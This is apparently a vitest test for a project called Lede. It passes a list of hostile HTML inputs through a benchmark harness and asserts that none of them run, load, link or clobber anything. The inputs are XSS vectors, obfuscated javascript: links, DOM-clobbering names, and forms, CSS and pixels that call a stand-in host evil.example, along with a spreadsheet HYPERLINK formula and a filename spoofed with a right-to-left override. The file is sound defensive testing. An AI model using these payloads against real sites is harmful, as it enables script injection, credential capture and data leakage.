import { expect, test } from 'vitest'
import { walkHostile } from '../../benchmarks/hostile/walk-hostile'

/** One of each kind; `npm run bench:hostile` takes whole lists of them. */
const payloads = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script><style>p { background: url(https://evil.example/style) }</style>',
  '<svg><script>alert(1)</script><image href="https://evil.example/svg"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">run</a><a href=" java\tscript:alert(1)">run</a><a href="data:text/html,x">data</a>',
  '<form action="https://evil.example/form"><input type="password" name="parentNode"><button formaction="https://evil.example/b">Go</button></form>',
  '<img name="getElementById"><img id="body"><a id="location" name="cookie">clobber</a><p id="createElement">x</p>',
  '<iframe src="https://evil.example/frame" srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/o"></object>',
  '<link rel="prefetch" href="https://evil.example/link"><meta http-equiv="refresh" content="600;url=https://evil.example/"><base href="https://evil.example/">',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x" referrerpolicy="unsafe-url"><video poster="https://evil.example/poster"></video>',
  '<p style="background:url(https://evil.example/css)" onmouseover="alert(1)">styled</p>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://evil.example")',
  '\u202Egnp.exe \u200b\u2066 [[link]] <% code %> ---',
]

test('rv-title-html, rv-url, css-exfil, clobber, forms, svg, pixel: nothing of what a hostile page says runs, loads, links or shadows anything in Lede', async () => {
  const { faults, pages, saved, opened, imported } = await walkHostile(
    payloads.map((text, index) => ({ name: String(index), text })),
  )
  expect(faults.write()).not.toMatch(/^ {2}\S/mu)
  expect([pages, saved, opened]).toEqual([1, 1, 1])
  expect(imported).toMatch(/1/u)
})
